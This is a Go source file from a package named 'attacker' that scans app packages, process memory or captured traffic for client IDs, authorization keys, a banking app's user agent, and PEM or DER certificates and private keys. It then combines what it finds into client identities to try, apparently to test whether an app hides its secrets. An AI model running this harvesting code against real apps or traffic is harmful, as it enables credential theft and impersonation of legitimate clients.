package attacker

import (
	"bytes"
	"crypto"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"encoding/hex"
	"encoding/pem"
	"iter"
	"regexp"
	"slices"
	"strings"
)

// maxTries bounds how many combinations of what was found are tried.
const maxTries = 12

// checkHidden is what stopped an attack that did not find what it searched for: nobody
// but the attacker can tell.
const checkHidden = "hidden-secrets"

const maxPEM = 8 << 10 // of a block, in bytes

// loot is what a search of bytes brought up: a package, a process's memory or a
// recorded connection. It knows what such things look like, not where they are.
type loot struct {
	names        []string // telling names that stood there
	keys         []string // what is sent as a key; as found, each once
	userAgents   []string
	certificates []*x509.Certificate
	privateKeys  []crypto.Signer
}

var (
	// CLIENT_ID = "…", "CLIENT_ID":"…", CLIENT_ID: …
	namedKey = regexp.MustCompile(`CLIENT_ID"?\s{0,4}[:=]\s{0,4}"?([A-Za-z0-9._~-]{3,128})`)
	sentKey  = regexp.MustCompile(`(?i:authorization): ?key ([A-Za-z0-9._~-]{3,128})\r?\n`)
	appAgent = regexp.MustCompile(`HarbourBank/[0-9]+(?:\.[0-9]+){1,2}`)

	// Names that developers give to secrets.
	telling = []string{"CLIENT_ID", "SHARED_SECRET", "CLIENT_SECRET", "TLS_CLIENT_KEY"}

	pemStart = []byte("-----BEGIN ")
	// A PEM block, with its line ends as they are or as JSON writes them.
	pemBlock = regexp.MustCompile(`^-----BEGIN [A-Z0-9 ]{3,40}-----(?:\\n|\r?\n)[A-Za-z0-9+/=\\\r\n]+-----END [A-Z0-9 ]{3,40}-----`)
)

// derPrivateKeys are the first bytes of P-256 private keys in DER, with the parser for
// what follows: PKCS #8 and SEC 1.
var derPrivateKeys = []struct {
	start []byte
	size  int
	parse func([]byte) (any, error)
}{
	{[]byte("\x30\x81\x87\x02\x01\x00\x30\x13\x06\x07\x2a\x86\x48\xce\x3d\x02\x01"), 138, x509.ParsePKCS8PrivateKey},
	{[]byte("\x30\x77\x02\x01\x01\x04\x20"), 121, func(der []byte) (any, error) { return x509.ParseECPrivateKey(der) }},
}

// search looks through a piece of bytes.
func (l *loot) search(data []byte) {
	for _, match := range submatches(data, "CLIENT_ID", namedKey) {
		l.addKey(match)
	}
	for _, match := range submatches(data, "uthorization:", sentKey) {
		l.addKey(match)
	}
	for _, match := range submatches(data, "HarbourBank/", appAgent) {
		l.userAgents = addNew(l.userAgents, match)
	}
	for _, name := range telling {
		if bytes.Contains(data, []byte(name)) {
			l.names = addNew(l.names, name)
		}
	}
	for at := range occurrences(data, pemStart) {
		if text := pemBlock.Find(data[at:min(len(data), at+maxPEM)]); text != nil {
			l.addPEM(bytes.ReplaceAll(text, []byte(`\n`), []byte("\n")))
		}
	}
	for _, kind := range derPrivateKeys {
		for at := range occurrences(data, kind.start) {
			if at+kind.size > len(data) {
				continue
			}
			if key, err := kind.parse(data[at : at+kind.size]); err == nil {
				l.addPrivateKey(key)
			}
		}
	}
}

// occurrences are the places of a text in the data.
func occurrences(data, text []byte) iter.Seq[int] {
	return func(yield func(int) bool) {
		for at := 0; ; at += len(text) {
			next := bytes.Index(data[at:], text)
			if next < 0 || !yield(at+next) {
				return
			}
			at += next
		}
	}
}

// submatches finds what the pattern's last group, or all of it, stands for. A regular
// expression over a hundred megabytes is slow, so the anchor, a text in it, is looked
// for first.
func submatches(data []byte, anchor string, pattern *regexp.Regexp) []string {
	var found []string
	const before, after = 1, 256 // "A" of Authorization
	for at := range occurrences(data, []byte(anchor)) {
		start := max(0, at-before)
		window := data[start:min(len(data), at+after)]
		match := pattern.FindSubmatchIndex(window)
		if match == nil || start+match[0] > at {
			continue // none, or that of a later anchor, which may be cut off
		}
		found = append(found, string(window[match[len(match)-2]:match[len(match)-1]]))
	}
	return found
}

func addNew(list []string, text string) []string {
	if slices.Contains(list, text) {
		return list
	}
	return append(list, text)
}

func (l *loot) addKey(key string) { l.keys = addNew(l.keys, key) }

func (l *loot) addPEM(text []byte) {
	block, _ := pem.Decode(text)
	if block == nil {
		return
	}
	switch {
	case block.Type == "CERTIFICATE":
		certificate, err := x509.ParseCertificate(block.Bytes)
		if err == nil && !slices.ContainsFunc(l.certificates, certificate.Equal) {
			l.certificates = append(l.certificates, certificate)
		}
	case block.Type == "PRIVATE KEY":
		if key, err := x509.ParsePKCS8PrivateKey(block.Bytes); err == nil {
			l.addPrivateKey(key)
		}
	case block.Type == "EC PRIVATE KEY":
		if key, err := x509.ParseECPrivateKey(block.Bytes); err == nil {
			l.addPrivateKey(key)
		}
	}
}

func (l *loot) addPrivateKey(key any) {
	signer, ok := key.(crypto.Signer)
	if !ok || slices.ContainsFunc(l.privateKeys, func(other crypto.Signer) bool { return fits(signer.Public(), other) }) {
		return
	}
	l.privateKeys = append(l.privateKeys, signer)
}

func fits(public crypto.PublicKey, private crypto.Signer) bool {
	comparable, ok := private.Public().(interface{ Equal(crypto.PublicKey) bool })
	return ok && comparable.Equal(public)
}

// clientCertificates are the certificates for which the private key was found too.
func (l *loot) clientCertificates() []tls.Certificate {
	var pairs []tls.Certificate
	for _, certificate := range l.certificates {
		for _, key := range l.privateKeys {
			if !certificate.IsCA && fits(certificate.PublicKey, key) {
				pairs = append(pairs, tls.Certificate{Certificate: [][]byte{certificate.Raw}, PrivateKey: key, Leaf: certificate})
			}
		}
	}
	return pairs
}

// identities are the combinations worth trying, the most complete ones first.
func (l *loot) identities() []identity {
	var tries []identity
	userAgent := ""
	if len(l.userAgents) > 0 {
		userAgent = l.userAgents[0]
	}
	pairs := l.clientCertificates()
	for _, key := range l.keys {
		for i := range pairs {
			tries = append(tries, identity{userAgent, key, &pairs[i]})
		}
		if len(pairs) == 0 {
			tries = append(tries, identity{userAgent, key, nil})
		}
	}
	return tries[:min(len(tries), maxTries)]
}

// String counts what was found.
func (l *loot) String() string {
	var parts []string
	for _, key := range l.keys {
		parts = append(parts, "something sent as a key ("+fingerprint(key)+")")
	}
	if len(l.keys) > 3 {
		parts = append(parts[:3], "more of the same")
	}
	if pairs := len(l.clientCertificates()); pairs > 0 {
		parts = append(parts, "a client certificate with its private key")
	}
	if len(parts) == 0 {
		return "nothing of use"
	}
	return strings.Join(parts, ", ")
}

// fingerprint stands for a secret where people read along.
func fingerprint(secret string) string {
	sum := sha256.Sum256([]byte(secret))
	return "SHA-256 " + hex.EncodeToString(sum[:4]) + "…"
}
